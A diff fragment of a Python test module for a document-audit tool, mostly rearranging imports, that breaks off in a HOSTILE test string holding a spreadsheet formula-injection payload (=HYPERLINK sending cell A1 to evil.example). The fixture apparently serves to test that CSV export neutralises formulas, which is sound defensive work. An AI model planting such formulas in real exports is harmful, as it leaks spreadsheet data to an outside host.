@@ -11,15 +11,15 @@ import pytest
 from typer.testing import CliRunner
 
 from audit.cli import app
-from audit.config import AuditConfig
+from audit.engine.state import STATE_DIR, StateStore
 from audit.pipeline import audit_documents
 from audit.records import BatchResult, Document
 from audit.report import write_reports
 from audit.report.csv import FORMULA_PREFIXES, neutralise
 from audit.report.files import safe_name
-from audit.state import STATE_DIR, StateStore
+from audit.settings import AuditConfig
+from audit.testing import FakeEncoder
 from tests.conftest import DERIVATIVES, REFERENCE
-from tests.fakes import FakeEncoder
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")\n\n'
